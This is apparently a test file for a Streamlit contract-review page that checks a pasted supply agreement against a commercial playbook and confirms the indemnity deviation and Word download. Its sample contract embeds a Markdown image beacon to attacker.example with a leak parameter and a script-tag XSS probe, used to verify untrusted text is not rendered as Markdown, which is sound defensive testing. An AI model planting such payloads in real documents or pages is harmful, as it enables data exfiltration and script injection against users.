"""Playbook page through AppTest: pick a playbook, check pasted text, see verdicts and the file."""

from __future__ import annotations

from pathlib import Path

from streamlit.testing.v1 import AppTest

PAGE = str(Path(__file__).resolve().parent.parent / "pages" / "playbook.py")
CONTRACT = (
    "SUPPLY AGREEMENT\n\n7. Indemnity. The Supplier shall indemnify and hold harmless the Customer "
    "against all claims. ![x](https://attacker.example/?leak=1) <script>alert(1)</script>\n\n"
    "9. Governing Law. This Agreement shall be governed by the laws of the State of New York.\n"
)


def test_the_commercial_playbook_checks_pasted_text_and_offers_the_word_file():
    at = AppTest.from_file(PAGE, default_timeout=60)
    at.run()
    at.text_area(key="playbook_text").input(CONTRACT)
    at.selectbox(key="playbook_book_choice").select("commercial")
    at.run()
    at.button[0].click()
    at.run()
    assert not at.exception
    summary = " ".join(m.value for m in at.markdown).replace("\\", "")
    assert "1 deviate" in summary and "high-severity deviation" in summary
    table = at.dataframe[-1].value
    indemnity = table[table["Position"] == "Mutual indemnity"].iloc[0]
    assert "deviates" in indemnity["Verdict"]
    assert "indemnify and hold harmless" in indemnity["Evidence"]
    # Untrusted text reaches the page only as table cells, never as Markdown.
    assert all("attacker.example" not in m.value for m in at.markdown)
    labels = [b.label for b in at.get("download_button")]
    assert any("Word file" in label for label in labels)
